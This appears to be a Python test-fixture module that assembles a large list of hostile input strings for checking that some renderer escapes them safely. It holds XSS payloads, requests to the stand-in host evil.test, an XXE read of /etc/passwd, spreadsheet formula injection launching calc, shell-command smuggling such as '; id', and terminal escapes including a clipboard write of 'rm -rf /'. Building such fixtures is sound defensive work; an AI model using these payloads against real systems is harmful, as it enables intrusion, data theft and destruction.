"""Texts that try to run, to move a cursor, to compute or to hide, wherever they are shown.

What runs would set `PWNED` on the page, or ask the host `evil.test`.
"""

from collections.abc import Iterator

from tests.attacks import ATTACKS

_RUN = "window.PWNED=1"
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "iframe",
    "video src=x",
    "audio src=x",
    "input autofocus",
    "details open",
    "marquee",
    "object data=x",
    "select autofocus",
    "a href=x",
    "math",
    "style",
    "form",
)
_EVENTS = (
    "onload",
    "onerror",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onclick",
    "onbegin",
    "onanimationstart",
    "onpageshow",
    "onbeforeprint",
    "onpointerover",
    "onresize",
)
_MARKUP = (
    f"<script>{_RUN}</script>",
    f"<SCRIPT>{_RUN}</SCRIPT>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script\n>{_RUN}</script\n>",
    f"<script/x>{_RUN}</script>",
    f"<\x00script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</summary></details><script>{_RUN}</script>",
    f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    "<script src=//evil.test/x.js></script>",
    "<script src=data:text/javascript,window.PWNED=1></script>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><style><img src=x onerror={_RUN}></style></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<template><script>{_RUN}</script></template>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe src='javascript:parent.{_RUN}'></iframe>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<link rel=preload as=image href=//evil.test/x.png>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test/'>",
    "<img src=//evil.test/x.png>",
    "<img srcset='//evil.test/x.png 1x'>",
    "<form action=//evil.test/><button autofocus>x",
    "<embed src=//evil.test/x>",
    "<object data=//evil.test/x></object>",
    "<video poster=//evil.test/x.png></video>",
    "<table background=//evil.test/x.png>",
    "<style>@import '//evil.test/x.css';</style>",
    "<style>*{background:url(//evil.test/x)}</style>",
    "<div style='background:url(//evil.test/x)'>",
    "<div style='width:expression(alert(1))'>",
    "</div></section></main></body></html>",
    "<plaintext>",
    "<!--",
    "<!doctype html><html>",
    "<details open><summary>",
    "<a href='#all'>all</a>",
    "<ins>not marked</ins><del>x</del><mark>y</mark>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "<?xml version='1.0'?><?php system('id') ?>",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&amp;lt;b&amp;gt;",
    "&colon;&Tab;&NewLine;",
    "&nbsp",
    "&#0;",
    "&#x1b;[31m",
    "&#8238;",
    "&unknown;",
    "&",
    "&&amp;",
)
_QUOTES = tuple(
    f"{close}{gap}{event}={_RUN} {rest}"
    for close in ('"', "'", "`", '">', "'>", '\\"', "&quot;", "&#39;")
    for gap in (" ", "\t", "\n", "/")
    for event, rest in (("onmouseover", 'x="'), ("autofocus onfocus", "x='"))
)
_ADDRESSES = tuple(
    f"{lead}{scheme}{_RUN}"
    for lead in ("", " ", "\x01", "&#1;", "\n")
    for scheme in (
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        "java\nscript:",
        "javascript&colon;",
        "vbscript:",
        "data:text/html,<script>",
        "jav&#x0A;ascript:",
    )
)
_STYLES = (
    "} body{display:none} .x{",
    "</style>",
    "/* */*{display:none}",
    "red;background:url(//evil.test/x)",
    "url(javascript:alert(1))",
    "@import url(//evil.test/x.css)",
    "\\3c/style\\3e",
    "#all:target~.cases>*{display:none}",
)
_TERMINAL = (
    "\x1b[31mred",
    "\x1b[2J\x1b[H",
    "\x1b[1A\x1b[2Koverwritten",
    "\x1b]0;title\x07",
    "\x1b]0;title\x1b\\",
    "\x1b]52;c;cm0gLXJmIC8=\x07",
    "\x1b]8;;http://evil.test\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]8;;x\x07y",
    "\x1bP+q544e\x1b\\",
    "\x1b_G\x1b\\",
    "\x1b^x\x1b\\",
    "\x1bc",
    "\x1b(0",
    "\x1b#8",
    "\x1b[?1049h",
    "\x1b[6n",
    "\x1b[21t",
    "\x1b[>c",
    "\x1b[5i",
    "\x1b",
    "\x1b[",
    "\x1b]",
    "x\x1b]0;never ended",
    "\x9b31mred",
    "\x9d0;title\x9c",
    "\x90+q\x9c",
    "\x84\x85\x88",
    "a\rb",
    "abc\b\b\bxyz",
    "a\x0bb\x0cc",
    "a\x07\x07",
    "\x0e\x0f",
    "\x1b[38;5;196m",
    "\x1b[0;31;5m",
    "\x1b[999999999C",
    "\x1b[1;1H",
    "\x1b[3J",
)
_FORMULAS = tuple(
    f"{lead}{start}{rest}"
    for lead in ("", " ", "\t", "\r", "\n", "\ufeff", "'", '"', "\x00", "\u200b")
    for start, rest in (
        ("=", "1+1"),
        ("+", "1+cmd|' /C calc'!A0"),
        ("-", "2+3+cmd|' /C calc'!A0"),
        ("@", "SUM(1+1)"),
        ("=", 'HYPERLINK("http://evil.test","x")'),
        ("=", 'IMPORTXML("http://evil.test","//a")'),
        ("\uff1d", "1+1"),
        ("\uff0b", "1"),
        ("\uff0d", "1"),
        ("\uff20", "SUM(1)"),
    )
)
_TEMPLATES = (
    "{{7*7}}",
    "{{ 7*'7' }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{%raw%}",
    "{{constructor.constructor('x')()}}",
    "{{$on.constructor('alert(1)')()}}",
    "{7*7}",
    "[[7*7]]",
    "@(7*7)",
    "*{7*7}",
    "~{x}",
    "%(x)s",
    "%s%n",
    "{0}",
    "{x!r}",
    "$x",
    "$(id)",
    "`id`",
    "; id",
    "| id",
    "&& id",
    "\\x41",
    "\\u0041",
    "\\n",
    "%00",
    "%0d%0aX: y",
)
_MARKDOWN = (
    "![x](http://evil.test/x.png)",
    "[x](javascript:alert(1))",
    "[x]: http://evil.test",
    "# heading",
    "| a | b |\n|---|---|",
    "```\ncode\n```",
    "`code`",
    "***bold***",
    "~~del~~",
    "> quote",
    "- [ ] task",
    "---",
    "<http://evil.test>",
    "http://evil.test",
    "<details><summary>x</summary>",
    "a  \nb",
    "\\",
    "\\|",
    "* x\n* y",
)
_DATA = (
    '"',
    "'",
    "\\",
    '"},{"x":"',
    "\\u0000",
    "]]>",
    "<![CDATA[",
    "--",
    "-->",
    "a,b;c\td",
    'a"b',
    "a\nb",
    "a\r\nb",
    "null",
    "NaN",
    "true",
    "../../etc/passwd",
    "C:\\con",
    "file:///etc/passwd",
    "all",
    "cases",
    "only-worse",
    "case-all",
    "tag-x",
    "x y",
    "",
    " ",
    "\n\n\n",
    "0",
    "__proto__",
    "constructor",
)
_HIDDEN = tuple(
    f"a{chr(code)}b"
    for code in (
        *range(0x20),
        *range(0x7F, 0xA0),
        0xAD,
        0x61C,
        *range(0x200B, 0x2010),
        *range(0x2028, 0x202F),
        *range(0x2060, 0x2070),
        0xFEFF,
        *range(0xFFF9, 0xFFFE),
        0xE0001,
        0xE0041,
        0xE007F,
        0x1D173,
        0xD800,
        0xDC00,
        0xDFFF,
    )
)
_LONG = (
    "x" * 10_000,
    "漢" * 5_000,
    "a\u0301\u0302\u0303" * 2_000,
    "<" * 5_000,
    "&" * 5_000,
    "\n" * 3_000,
    "(" * 5_000,
    "\u202e" * 100,
    "👩‍👩‍👧‍👦" * 500,
    "=" * 5_000,
)


def _handlers() -> Iterator[str]:
    for tag in _TAGS:
        for event in _EVENTS:
            yield f"<{tag} {event}={_RUN}>"


HOSTILE: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *_MARKUP,
            *_handlers(),
            *_QUOTES,
            *_ADDRESSES,
            *_STYLES,
            *_TERMINAL,
            *_FORMULAS,
            *_TEMPLATES,
            *_MARKDOWN,
            *_DATA,
            *_HIDDEN,
            *_LONG,
            *ATTACKS,
        )
    )
)
"""Each text once."""
